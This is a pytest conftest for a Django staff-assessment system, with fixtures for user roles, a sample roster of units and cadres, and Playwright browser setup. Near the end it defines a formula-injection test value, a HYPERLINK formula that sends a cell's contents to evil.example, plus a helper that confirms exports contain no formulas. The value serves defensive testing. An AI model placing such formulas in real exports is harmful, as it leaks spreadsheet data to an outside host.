"""The shared cast of the tests: one account per role, and a small roster they are scoped to."""

import io
import re
import time
import zipfile
from datetime import date

import pytest

from kaohe.accounts.middleware import LAST_SEEN
from kaohe.accounts.models import Role, User
from kaohe.org.models import Cadre, LeadershipTeam, Position, ScoringDepartment, Unit, UnitCategory
from kaohe.plans.models import AssessmentCycle, AssessmentGroup

PASSWORD = "Correct-horse-battery"  # noqa: S105  (three kinds of character: the password rules)


@pytest.fixture(autouse=True)
def _fast_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture(autouse=True)
def _immediate_tasks(settings):
    """Queued jobs run at once, in the request (kaohe/jobs/tests/test_worker.py runs the real worker)."""
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.fixture(autouse=True)
def _empty_cache():
    """Each test starts with an empty cache: keys hold ids, and every test's database reuses the same ids."""
    from django.core.cache import cache

    cache.clear()


@pytest.fixture(autouse=True)
def _default_language():
    """A request in English (a test's language cookie) leaves English active in the thread: the next test's
    direct calls would get English messages."""
    from django.utils import translation

    yield
    translation.deactivate()


@pytest.fixture(autouse=True)
def _anchor_file(settings, tmp_path):
    """Each test anchors the audit chain into its own file, never the worktree's var/."""
    settings.AUDIT_ANCHOR_FILE = tmp_path / "audit-anchors.jsonl"


@pytest.fixture(autouse=True)
def _second_factor_only_where_tested(settings):
    """Like the hasher: the cast logs in with its password alone, and the pages it tests are the business's.
    The second factor's own tests (accounts/tests/test_second_factor.py) turn the production rule back on
    with the `second_factor_required` fixture."""
    settings.SECOND_FACTOR_ROLES = []


@pytest.fixture
def second_factor_required(settings):
    from kaohe.settings import SECOND_FACTOR_ROLES

    settings.SECOND_FACTOR_ROLES = list(SECOND_FACTOR_ROLES)
    return settings.SECOND_FACTOR_ROLES


def make_unit(code: str, name: str, category: UnitCategory, parent: Unit | None = None) -> Unit:
    unit = Unit.objects.create(code=code, name=name, category=category, parent=parent)
    LeadershipTeam.objects.create(unit=unit)
    return unit


def make_cadre(code: str, name: str, unit: Unit, title: str, principal: bool = False) -> Cadre:
    cadre = Cadre.objects.create(
        code=code, name=name, gender="女", birth_month=date(1980, 5, 1), current_unit=unit
    )
    Position.objects.create(cadre=cadre, unit=unit, title=title, principal=principal, start=date(2021, 3, 1))
    return cadre


@pytest.fixture
def roster(db):
    """Two categories, three units, five cadres. Unit A is in the assessor's group; B and C are not."""
    towns = UnitCategory.objects.create(name="乡镇街道", order=1)
    depts = UnitCategory.objects.create(name="政府部门", order=2)
    a = make_unit("DW01", "东城街道", towns)
    b = make_unit("DW02", "西山镇", towns)
    c = make_unit("DW03", "市财政局", depts)
    cadres = {
        "a1": make_cadre("GB001", "张思佳", a, "党工委书记", principal=True),
        "a2": make_cadre("GB002", "李明", a, "办事处主任"),
        "b1": make_cadre("GB003", "王建国", b, "镇党委书记", principal=True),
        "c1": make_cadre("GB004", "赵丽", c, "局长", principal=True),
        "c2": make_cadre("GB005", "钱伟", c, "副局长"),
    }
    department = ScoringDepartment.objects.create(code="BM01", name="市发改委", unit=c)
    cycle = AssessmentCycle.objects.create(year=2025, name="2025年度考核")
    group = AssessmentGroup.objects.create(cycle=cycle, name="第一考核组")
    group.units.add(a)
    return {
        "categories": {"towns": towns, "depts": depts},
        "units": {"a": a, "b": b, "c": c},
        "cadres": cadres,
        "department": department,
        "group": group,
    }


def make_user(username: str, role: str, **scope) -> User:
    return User.objects.create_user(
        username=username, password=PASSWORD, role=role, full_name=username, **scope
    )


@pytest.fixture
def cast(roster):
    """One account per role, each scoped to the roster above; `outsider` is a liaison of unit B."""
    users = {
        "organiser": make_user("organiser", Role.ORGANISER),
        "committee": make_user("committee", Role.COMMITTEE),
        "assessor": make_user("assessor", Role.ASSESSOR),
        "clerk": make_user("clerk", Role.CLERK, department=roster["department"]),
        "liaison": make_user("liaison", Role.LIAISON, unit=roster["units"]["a"]),
        "leader": make_user("leader", Role.LEADER),
        "cadre": make_user("cadre", Role.CADRE, cadre=roster["cadres"]["a2"]),
        "outsider": make_user("outsider", Role.LIAISON, unit=roster["units"]["b"]),
        # The discipline-inspection body: answers the 党风廉政意见 asked of it, sees nothing else.
        "discipline": make_user("discipline", Role.DISCIPLINE),
        # 三员: they run the system and see no business data.
        "sysadmin": make_user("sysadmin", Role.SYSADMIN),
        "secadmin": make_user("secadmin", Role.SECADMIN),
        "auditadmin": make_user("auditadmin", Role.AUDITADMIN),
    }
    roster["group"].members.add(users["assessor"])
    return users


@pytest.fixture
def client_for(client, cast):
    """`client_for("clerk")` is a test client logged in as that member of the cast (None: anonymous)."""

    def login(name: str | None):
        client.logout()
        if name is not None:
            client.force_login(cast[name])
            # As the login page does: the idle-timeout clock starts at login, so the first page writes no
            # session (the query-count pins count what a page costs, not the login).
            session = client.session
            session[LAST_SEEN] = int(time.time())
            session.save()
        return client

    return login


CHROMIUM = "/usr/bin/chromium"


@pytest.fixture(scope="session")
def browser():
    """Debian's chromium driven by Playwright. Skipped when it is missing, except in CI where it must run."""
    import os
    from pathlib import Path

    if not Path(CHROMIUM).exists():
        if os.environ.get("CI") == "true":
            pytest.fail(f"{CHROMIUM} is missing: .ci/run installs it with apt-get")
        pytest.skip(f"{CHROMIUM} is not installed (apt-get install chromium)")
    # Playwright's sync API runs an event loop in this thread; the ORM calls the tests make are safe.
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
            ],
        )
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(locale="zh-CN", viewport={"width": 1280, "height": 900})
    page = context.new_page()
    yield page
    context.close()


@pytest.fixture
def phone_page(browser):
    context = browser.new_context(
        locale="zh-CN", viewport={"width": 375, "height": 740}, is_mobile=True, has_touch=True
    )
    page = context.new_page()
    yield page
    context.close()


HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&B3,"详情")'


def formula_cells(content: bytes) -> list[str]:
    """The sheets of an xlsx file that hold a formula (an <f> element), to show an export wrote none."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", archive.read(name))
        ]


def xlsx_bytes(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content
